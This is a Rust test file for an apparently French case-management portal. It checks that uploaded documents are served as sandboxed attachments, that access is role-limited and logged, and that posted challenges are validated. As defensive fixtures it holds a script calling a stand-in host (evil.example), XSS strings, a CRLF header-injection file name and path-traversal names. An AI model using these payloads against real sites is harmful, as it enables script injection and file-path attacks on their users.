//! The office opens what a person handed in: one document at a time, after the ledger has the look,
//! as a file that can do nothing, whatever its writer put into it. And a challenge that came by
//! post counts like one made on the portal.

use crate::defence_world::{Finding, Got, encoded, finding, value_of};
use crate::oversight_world::{OVERSEER_SECRET, authority};
use axum::Router;
use axum::body::Body;
use axum::http::{HeaderMap, Request, StatusCode};
use entremise_core::event::Event;
use entremise_core::ledger::Actor;
use tower_service::Service as _;

const PDF: &[u8] = b"%PDF-1.7 SPECIMEN\n<script>alert(1)</script>";
const HTML: &[u8] = b"<!doctype html><script>fetch('//evil.example')</script>";
const FORM: &str = "application/x-www-form-urlencoded";

/// A person wrote by post: a PDF in which somebody hid a script.
fn wrote() -> Finding {
    let mut finding = finding();
    let letter = [("act", "observations"), ("received_on", "2023-05-10")];
    let got = finding.enter(&letter, PDF);
    assert_eq!(got.status, StatusCode::SEE_OTHER, "{}", got.text);
    finding
}

fn path(finding: &Finding) -> String {
    format!("{}/documents", finding.path())
}

/// What a browser gets when it sends the form of one document.
struct File {
    status: StatusCode,
    headers: HeaderMap,
    bytes: Vec<u8>,
}

impl File {
    fn header(&self, name: &str) -> &str {
        self.headers.get(name).map_or("", |value| value.to_str().unwrap())
    }
}

fn open_as(finding: &mut Finding, cookie: &str, document: &str) -> File {
    let path = path(finding);
    let page = finding.get_with(&path, cookie);
    let token = page.text.contains("name=\"document\"").then(|| value_of(&page, "token"));
    let body =
        format!("token={}&document={}", encoded(&token.unwrap_or_default()), encoded(document));
    let mut router: Router = finding.router();
    let request = Request::post(&path).header("cookie", cookie).header("content-type", FORM);
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let response = runtime.block_on(router.call(request.body(Body::from(body)).unwrap())).unwrap();
    let (parts, body) = response.into_parts();
    let bytes = runtime.block_on(axum::body::to_bytes(body, 1 << 20)).unwrap().to_vec();
    File { status: parts.status, headers: parts.headers, bytes }
}

fn open(finding: &mut Finding, document: &str) -> File {
    let cookie = finding.come_in(crate::oversight_world::OFFICER_SECRET);
    open_as(finding, &cookie, document)
}

/// The name of the one document that the list has.
fn named(finding: &mut Finding) -> String {
    let list = path(finding);
    let page = finding.as_officer(&list);
    assert_eq!(page.status, StatusCode::OK, "{}", page.text);
    value_of(&page, "document")
}

/// Kind and body of the lines of a case about looks, the oldest first.
fn looks(finding: &Finding) -> Vec<String> {
    let history = finding.file().history.into_iter();
    history.filter(|line| line.kind.starts_with("look.")).map(|line| line.kind).collect()
}

#[test]
fn a_list_opens_nothing_and_a_document_leaves_as_a_file_after_the_look() {
    let mut finding = wrote();
    let (store, now, by) = (finding.world.store.clone(), finding.now(), Actor::House);
    store.keep_case_document(&authority(), finding.case, "letter.pdf", PDF, &by, now).unwrap();
    let before = looks(&finding);
    let name = named(&mut finding);
    assert_eq!(looks(&finding), before, "a list is no look");
    let file = open(&mut finding, &name);
    assert_eq!(file.status, StatusCode::OK, "{}", String::from_utf8_lossy(&file.bytes));
    assert_eq!(file.bytes, PDF, "byte for byte");
    assert_eq!(file.header("content-type"), "application/pdf");
    assert_eq!(file.header("content-disposition"), format!("attachment; filename=\"{name}\""));
    assert_eq!(file.header("content-security-policy"), "default-src 'none'; sandbox");
    assert_eq!(file.header("x-content-type-options"), "nosniff");
    assert_eq!(file.header("cache-control"), "no-store");
    let after = looks(&finding);
    assert_eq!(after.len(), before.len() + 1, "{after:?}");
    assert_eq!(after.last().unwrap(), "look.answer", "an officer reads to answer");
    let kept = store.documents(&authority(), &finding.case).unwrap();
    assert_eq!(kept.len(), 2, "there is a letter, too");
    let opened = kept.iter().find(|row| row.name == name).unwrap().id;
    let file = finding.file();
    let line = file.history.iter().rfind(|line| line.kind == "look.answer").unwrap();
    let body = line.body.as_ref().unwrap();
    assert_eq!(body["documents"], serde_json::json!([opened.0]), "this one and no other");
    let cookie = finding.come_in(crate::oversight_world::MEMBER_SECRET);
    assert_eq!(open_as(&mut finding, &cookie, &name).status, StatusCode::OK);
    assert_eq!(looks(&finding).last().unwrap(), "look.decide", "a member reads to decide");
}

#[test]
fn whoever_sits_elsewhere_opens_nothing_and_no_look_is_entered() {
    let mut finding = wrote();
    let name = named(&mut finding);
    let before = looks(&finding);
    let overseer = finding.come_in(OVERSEER_SECRET);
    assert_eq!(open_as(&mut finding, &overseer, &name).status, StatusCode::FORBIDDEN);
    assert_eq!(open_as(&mut finding, "", &name).status, StatusCode::SEE_OTHER, "to come in");
    let list = path(&finding);
    assert_eq!(finding.get_with(&list, &overseer).status, StatusCode::FORBIDDEN);
    let body = format!("token=x&document={}", encoded(&name)).into_bytes();
    let foreign = finding.post_as_officer(&list, FORM, body);
    assert_eq!(foreign.status, StatusCode::FORBIDDEN, "a form of nobody's session");
    assert_eq!(looks(&finding), before);
}

#[test]
fn a_text_that_is_a_page_leaves_as_text() {
    let mut finding = finding();
    let letter = [("act", "observations"), ("received_on", "2023-05-10")];
    assert_eq!(finding.enter(&letter, HTML).status, StatusCode::SEE_OTHER);
    let name = named(&mut finding);
    let file = open(&mut finding, &name);
    assert_eq!(file.header("content-type"), "text/plain; charset=utf-8");
    assert!(file.header("content-disposition").starts_with("attachment; "));
    assert_eq!(file.bytes, HTML);
}

#[test]
fn a_hostile_name_and_bytes_that_are_something_else_are_neither_listed_nor_given() {
    let mut finding = wrote();
    let keep = |finding: &Finding, name: &str, bytes: &[u8]| {
        let (store, now) = (&finding.world.store, finding.now());
        let by = Actor::Concerned;
        store.keep_case_document(&authority(), finding.case, name, bytes, &by, now).unwrap();
    };
    let hostile = [
        "observations-0123456789ab.html",
        "observations-\"><script>alert(1)</script>.pdf",
        "observations-a\r\nSet-Cookie: a=b.pdf",
        "../../observations-0123456789ab.pdf",
        "letter.pdf",
        "reasons-0123456789ab.txt",
    ];
    for name in hostile {
        keep(&finding, name, PDF);
    }
    let list = path(&finding);
    let page = finding.as_officer(&list);
    assert_eq!(page.text.matches("name=\"document\"").count(), 1, "{}", page.text);
    assert!(!page.text.contains("<script"), "{}", page.text);
    let before = looks(&finding);
    for name in hostile {
        assert_eq!(open(&mut finding, name).status, StatusCode::NOT_FOUND, "{name}");
    }
    assert_eq!(looks(&finding), before, "what cannot be opened is not looked at");
    // Bytes that are not what the name says are not given, whatever they are.
    keep(&finding, "challenge-0123456789ab.png", HTML);
    let got = open(&mut finding, "challenge-0123456789ab.png");
    assert_eq!(got.status, StatusCode::NOT_FOUND);
    assert!(!String::from_utf8_lossy(&got.bytes).contains("evil.example"));
}

fn posted(finding: &mut Finding, fields: &[(&str, &str)], scan: &[u8]) -> Got {
    let path = format!("{}/contestation/courrier", finding.path());
    finding.send_form(&path, fields, scan)
}

const LETTER: [(&str, &str); 3] =
    [("received_on", "2023-05-10"), ("ground-not_me", "yes"), ("text", "Ce n’était pas moi.")];

#[test]
fn a_challenge_that_came_by_post_counts_like_one_made_on_the_portal_and_is_acknowledged() {
    let mut finding = finding();
    let got = posted(&mut finding, &LETTER, PDF);
    assert_eq!(got.status, StatusCode::SEE_OTHER, "{}", got.text);
    assert!(finding.ladder().challenge().is_some(), "it waits for an answer");
    let file = finding.file();
    let line = file.history.iter().find(|line| line.kind == "event.challenge_received").unwrap();
    assert!(line.actor.contains("officer-7"), "who entered it: {}", line.actor);
    let Some(Event::ChallengeReceived { grounds, received_at, document }) = &line.event else {
        panic!("{}", line.kind)
    };
    assert_eq!(grounds.iter().map(|ground| ground.name()).collect::<Vec<_>>(), ["not_me"]);
    // The day on which it came, from its first moment in Paris.
    assert_eq!(received_at.to_string(), "2023-05-09T22:00:00Z");
    let told = finding.get(&got.location);
    for part in [document.to_string(), line.seq.to_string(), "mercredi 10\u{a0}mai 2023".into()] {
        assert!(told.text.contains(&part), "{part}: {}", told.text);
    }
    let list = path(&finding);
    let papers = finding.as_officer(&list).text;
    assert_eq!(papers.matches("name=\"document\"").count(), 2, "what it says, and its scan");
    // A second one waits until the first has its answer, as on the portal.
    let path = format!("{}/contestation/courrier", finding.path());
    assert_eq!(finding.get(&path).status, StatusCode::CONFLICT);
}

#[test]
fn a_posted_challenge_without_a_ground_a_text_or_a_sensible_day_is_not_entered() {
    let mut finding = finding();
    for (field, value, said) in [
        ("ground-not_me", "", "Cochez au moins un motif"),
        ("text", "  ", "Recopiez ce qu’écrit la personne"),
        ("received_on", "2023-05-11", "pas encore venu"),
        ("received_on", "2019-05-10", "antérieur à l’ouverture"),
        ("received_on", "hier", "jour d’arrivée"),
    ] {
        let fields = LETTER.map(|one| if one.0 == field { (field, value) } else { one });
        let got = posted(&mut finding, &fields, b"");
        assert_eq!(got.status, StatusCode::UNPROCESSABLE_ENTITY, "{field}={value}: {}", got.text);
        assert!(got.text.contains(said), "{said}: {}", got.text);
    }
    let got = posted(&mut finding, &LETTER, b"MZ\0\x01 no document");
    assert_eq!(got.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", got.text);
    assert_eq!(finding.state(), "contradictory");
    finding.act_as_member();
    let path = format!("{}/contestation/courrier", finding.path());
    assert_eq!(finding.get(&path).status, StatusCode::FORBIDDEN, "an officer enters letters");
}
